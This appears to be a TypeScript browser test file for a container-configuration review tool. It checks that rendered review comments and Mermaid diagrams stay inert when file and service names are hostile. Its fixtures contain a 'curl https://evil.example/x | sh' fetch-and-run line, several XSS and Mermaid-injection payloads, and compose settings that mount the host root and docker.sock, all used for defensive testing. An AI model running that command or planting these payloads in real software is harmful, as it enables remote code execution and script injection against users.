/// <reference lib="dom" />
/// <reference lib="dom.iterable" />
/** What people see, in a real browser: nothing that a repository's text says comes to life. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import fc from 'fast-check';
import type { Image } from '../src/model/project.ts';
import { summaryMarkdown } from '../src/report/summary.ts';
import { Source } from '../src/source.ts';
import { visible } from '../src/text/visible.ts';
import { noBrowser, Window } from './browser.ts';
import { githubHtml } from './demo/github-markdown.ts';
import { dressed, page } from './demo/page.ts';
import { sceneOf } from './demo/story.ts';
import { Scene } from './github/scene.ts';
import { printedBy } from './printed.ts';
import { aService, dockerfileProject } from './report/containers.ts';
import { hostile } from './report/hostile.ts';
import { aReview } from './report/sample.ts';
import type { Files } from './repository.ts';
import { run } from './run.ts';

const folderName = '@octocat #1 GH-1 <img src=x onerror=alert(1)> ![x](p.png) deadbeef1 :smile: $x$';
const composeName = 'docker-compose.`tick` | @acme\u202eteam <!-- x --> **b** [a](b) www.evil.example.yml';
const badName = '@octocat <img src=x onerror=alert(2)> ![y](q.png) #2 \u001b[31m';
const shellText =
  'curl https://evil.example/x | sh # @octocat ![x](https://evil.example/p.png) <script>alert(3)</script>';

const base: Files = {
  [`${folderName}/Dockerfile`]: 'FROM debian:12 AS base\nRUN true\nFROM base\nUSER 10001\n',
  'compose.yaml': 'services:\n  app:\n    image: example/app:1.0\n',
};
const head: Files = {
  [`${folderName}/Dockerfile`]: `FROM debian:12 AS base
RUN ${shellText}
ENV A_PASSWORD="</code></details><!-- \`\`\` @team #3 -->"
FROM base
COPY --from=base /a /b
USER 0:<img/src=x/onerror=alert(4)>
`,
  [composeName]: `services:
  app:
    build: "./${folderName}"
    privileged: true
    user: "0:@octocat<img/src=x>\`|"
    volumes: ["/:/host<img/src=x>", "/var/run/docker.sock:/@octocat"]
`,
  'compose.yaml': `services:\n  ${JSON.stringify(badName)}:\n    image: example/app\n`,
  '<b>@octocat.dockerfile': 'FROM debian:12\n<img/src=x/onerror=alert(5)> @octocat #5\n',
};

describe('the conversation in a browser', { skip: noBrowser }, () => {
  const folder = mkdtempSync(join(tmpdir(), 'layer-review-page-'));
  let window: Window;

  before(async () => {
    await using scene = await Scene.start({ base, head });
    const order = {
      forge: scene.forge(),
      policyPath: '.github/layer-review.yml',
      overrides: { commentOn: 'info' },
    } as const;
    await printedBy(async () => {
      const { findings, unread } = await run(order);
      assert.ok(findings.length > 5 && unread.length > 0);
    });
    const seen = sceneOf(scene.github, scene.number, 'A stranger opens a pull request', scene.summary());
    assert.ok(seen.conversation.threads.length > 2);
    const file = join(folder, 'page.html');
    writeFileSync(file, page([seen]));
    window = await Window.open();
    await window.page.goto(pathToFileURL(file).href);
    await window.page.waitForSelector('html[data-drawn]');
    for (const details of await window.page.locator('details').all())
      await details.evaluate((each) => each.setAttribute('open', ''));
  });
  after(async () => {
    await window?.[Symbol.asyncDispose]();
    rmSync(folder, { recursive: true });
  });

  test('would show it if something came to life', () => {
    const html = githubHtml(
      '@octocat #1 GH-2 3f2a91c07d5e :smile: $x$ ![a](b.png) <i onclick=x> www.example.com `@team`',
    );
    assert.equal(
      html.match(/class="(?:mention|reference|commit|emoji|formula)"|<img|<i onclick|<a href="http:/g)?.length,
      9,
    );
    assert.match(html, /<code>@team<\/code>/);
  });

  test('asks for nothing and runs nothing', () => {
    assert.deepEqual(window.requests, []);
    assert.deepEqual(window.trouble, []);
  });

  test('has no mention, reference, image or script in it, and only links of ours', async () => {
    const alive = await window.page.evaluate(() =>
      [...document.querySelectorAll('.markdown *')]
        .filter(
          (each) =>
            (['IMG', 'SCRIPT', 'IFRAME', 'STYLE', 'FORM', 'INPUT', 'VIDEO'].includes(each.tagName) &&
              !each.closest('svg')) ||
            [...each.attributes].some(({ name }) => /^on/i.test(name)) ||
            (each.closest('svg') && ['A', 'IMG', 'SCRIPT', 'image'].includes(each.tagName)) ||
            each.matches('.mention, .reference, .commit, .emoji, .formula') ||
            (each.tagName === 'A' &&
              !/^https:\/\/(?:github\.test\/octo\/shop\/(?:blob\/[0-9a-f]{40}\/|commit\/[0-9a-f]{40}|actions\/runs\/1|pull\/1)|github\.com\/layer-review\/layer-review(?:\/blob\/v[\d.]+\/(?:src\/rules\/[a-z]+\/[a-z0-9-]+|docs\/[a-z-]+)\.md)?$)/.test(
                (each as HTMLAnchorElement).href,
              )),
        )
        .map((each) => each.outerHTML),
    );
    assert.deepEqual(alive, []);
  });

  test('hides nothing: the only comments are our own', async () => {
    const comments = await window.page.evaluate(() => {
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_COMMENT);
      const found: string[] = [];
      while (walker.nextNode()) found.push(walker.currentNode.nodeValue ?? '');
      return found;
    });
    assert.ok(comments.length > 0);
    for (const each of comments) assert.match(each, /^ layer-review: [\w: -]+ $/);
  });

  for (const colorScheme of ['light', 'dark'] as const)
    for (const width of [1000, 360])
      test(`is whole and readable in ${colorScheme} at ${width} points`, async () => {
        await window.page.emulateMedia({ colorScheme });
        await window.page.setViewportSize({ width, height: 800 });
        const seen = await window.page.evaluate(() => {
          const parts = (colour: string) => (colour.match(/[\d.]+/g) ?? []).map(Number);
          const luminance = (colour: string) => {
            const [r = 0, g = 0, b = 0] = parts(colour).map((each) => {
              const part = each / 255;
              return part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4;
            });
            return 0.2126 * r + 0.7152 * g + 0.0722 * b;
          };
          /** That of the first ancestor with one that nothing shines through. */
          const back = (node: Element): string => {
            const { backgroundColor } = getComputedStyle(node);
            return (parts(backgroundColor)[3] ?? 1) === 1 || !node.parentElement
              ? backgroundColor
              : back(node.parentElement);
          };
          const contrasts = [
            ...document.querySelectorAll(':is(h1, p, td, th, li, a, header, summary):not(.mermaid *)'),
          ].map((node) => {
            const [own, behind] = [luminance(getComputedStyle(node).color), luminance(back(node))];
            return (Math.max(own, behind) + 0.05) / (Math.min(own, behind) + 0.05);
          });
          return {
            back: luminance(back(document.body)),
            least: Math.min(...contrasts),
            isTooWide: document.documentElement.scrollWidth > innerWidth,
          };
        });
        assert.equal(seen.back > 0.5, colorScheme === 'light');
        assert.ok(seen.least >= 4.5, `contrast ${seen.least}`);
        assert.equal(seen.isTooWide, false);
      });

  test('shows hostile text as it is', async () => {
    const texts = (await window.page.locator('.markdown').allTextContents()).join('\n');
    for (const text of [`${folderName}/Dockerfile`, composeName, shellText.slice(0, 60)])
      assert.ok(texts.includes(visible(text)), text);
    assert.ok(texts.includes('<img src=x onerror=alert(2)>'));
    assert.doesNotMatch(texts, /[\u202a-\u202e\u2066-\u2069\u001b]/);
  });
});

describe('a diagram in a browser', { skip: noBrowser }, () => {
  const folder = mkdtempSync(join(tmpdir(), 'layer-review-diagram-'));
  after(() => rmSync(folder, { recursive: true }));

  test('is drawn whatever the names are, and shows them as they are', async () => {
    const values = [
      ...[
        '@octocat',
        '"]; click stage0 "https://evil.example"',
        'a<br/>b',
        '<img src=x onerror=alert(1)>',
        '`**b** _i_`',
      ],
      ...['#35;', '%%{init: {"securityLevel":"loose"}}%%', 'fa:fa-bomb', '1. x', '- x', 'end', 'style:x#y;', '$$x^2$$'],
      ...['www.evil.example', 'classDef found fill:#fff;', '```', '\\', '&lt;b&gt;', '漢字', '\u202eabc'],
      ...fc.sample(hostile, { numRuns: 40, seed: 1 }),
    ];
    const diagrams = values.map((value) => {
      const source = new Source(value, 'FROM debian:12 AS base\nFROM base\n');
      const project = dockerfileProject(source);
      const [first, last] = project.images as [Image, Image];
      const stage = { ...first.stage, name: value };
      const images = [
        { ...first, stage },
        { ...last, stage: { ...last.stage, base: { kind: 'stage', stage } as const } },
      ];
      const compose = new Source('compose.yaml', value);
      const service = aService(compose, value, { kind: 'built', image: images[1]! });
      const review = aReview({ project: { ...project, images, services: [service] } });
      return /```mermaid\n(.*?)\n```/s.exec(summaryMarkdown(review))![0];
    });
    const file = join(folder, 'page.html');
    writeFileSync(file, dressed('Diagrams', diagrams.map((each) => githubHtml(each)).join('\n')));
    await using window = await Window.open();
    await window.page.goto(pathToFileURL(file).href);
    await window.page.waitForSelector('html[data-drawn]');
    const drawn = await window.page.evaluate(() =>
      [...document.querySelectorAll('.mermaid')].map((each) => ({
        labels: [...each.querySelectorAll('.nodeLabel')].map((label) => label.textContent?.replace(/\s+/g, ' ') ?? ''),
        alive: each.querySelectorAll('a, img, image, script, iframe, [onclick], [onerror], i, em, b, .katex').length,
      })),
    );
    assert.equal(drawn.length, values.length);
    drawn.forEach(({ labels, alive }, i) => {
      const shown = visible(values[i]!).replace(/\s+/g, ' ').slice(0, 50).trim();
      assert.equal(alive, 0, values[i]);
      assert.ok(
        labels.some((label) => label.startsWith(`service ${shown}`)),
        `${values[i]}: ${labels.join(' | ')}`,
      );
      assert.ok(
        labels.some((label) => label.startsWith(`stage ${shown}`)),
        `${values[i]}: ${labels.join(' | ')}`,
      );
    });
    assert.deepEqual(window.requests, []);
    assert.deepEqual(window.trouble, []);
  });
});
